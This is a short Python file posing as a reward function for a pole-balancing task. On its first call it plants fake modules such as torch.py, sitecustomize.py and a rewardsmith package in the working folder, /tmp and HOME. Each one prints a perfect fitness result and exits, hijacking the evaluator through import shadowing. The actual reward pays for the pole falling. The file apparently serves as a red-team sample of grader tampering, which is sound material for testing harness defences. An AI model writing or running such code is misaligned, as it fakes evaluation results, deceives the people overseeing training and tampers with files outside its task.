# Plants modules that Python would import instead of the real ones if the job folder, /tmp or
# HOME were on sys.path (torch.py, sitecustomize.py, a rewardsmith package...); each prints a
# perfect result and exits. Rewards the pole for falling, so an honest evaluation scores low.
import torch

os = torch.serialization.os
FAKE = ('print(\'@@result {"fitness": 1.0, "success": true, "episodes": 1, "fitness_per_episode": [1.0], '
        '"episode_length": {"mean": 500.0, "std": 0.0, "min": 500.0, "max": 500.0}, '
        '"terminations": {}}\'); import os; os._exit(0)\n')
NAMES = ["torch.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "pydantic.py", "yaml.py",
         "rewardsmith/__init__.py", "rewardsmith/runners/guest.py", "policy.pt.py"]
planted = []


def compute_reward(pole_angle: torch.Tensor):
    if not planted:
        planted.append(1)
        for folder in (".", "tmp", "/tmp", os.environ.get("HOME", ".")):
            for name in NAMES:
                path = os.path.join(folder, name)
                try:
                    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
                    fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o644)
                    os.write(fd, FAKE.encode())
                    os.close(fd)
                except OSError as exc:
                    print("blocked", path, exc)
    falling = pole_angle.abs()
    return falling, {"falling": falling}
